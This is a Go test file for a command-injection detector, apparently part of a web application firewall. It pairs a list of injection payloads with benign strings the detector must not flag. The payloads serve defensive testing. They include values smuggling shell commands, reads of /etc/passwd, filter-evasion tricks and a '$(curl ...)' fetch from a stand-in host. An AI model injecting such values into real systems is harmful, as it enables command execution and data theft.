package cmdi

import (
	"testing"

	"github.com/deepwall/deepwall/rules/detect/internal/detecttest"
)

// attacks are values the detector must report, benign ones it must not;
// both seed FuzzMatch.
var attacks = []string{
	";id",
	"| whoami",
	"&& cat /etc/passwd",
	"`uname -a`",
	"$(curl http://x.example/s.sh)",
	"a;c''at /etc/passwd",
	"a;w\\h\\o\\a\\m\\i",
	"x;cat${IFS}/etc/passwd",
	"x;${PATH:0:1}bin${PATH:0:1}id",
	"{cat,/etc/passwd}",
	"/???/c?t /etc/passwd",
	"%0a ping -c 3 127.0.0.1",
	"127.0.0.1; sleep 5",
	"system('cat /etc/passwd');",
	"| type %SYSTEMROOT%\\\\win.ini",
	"ifconfig",
	"cat /etc/passwd",
	"/bin/ls -la",
}

var benign = []string{
	"Tom & Jerry",
	"Hello; please find attached",
	"rock | pop",
	"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
	"query GetUser($id: ID!) { user(id: $id) { id, name } }",
	"SET 8 -MINI AS",
	"1; exec will create the case 7",
	"Mozilla/5.0 (compatible; Uptime/1.0; http://uptime.com)",
	"curl/8.4.0",
	"more than 5 items; less than 10",
	"I like cats; cat food is great",
}

func TestMatch(t *testing.T) {
	detecttest.Check(t, New().Match, attacks, benign)
}

func FuzzMatch(f *testing.F) { detecttest.Fuzz(f, New().Match, attacks, benign) }

// BenchmarkMatch measures a mix of benign values, the common case.
func BenchmarkMatch(b *testing.B) { detecttest.Bench(b, New().Match) }
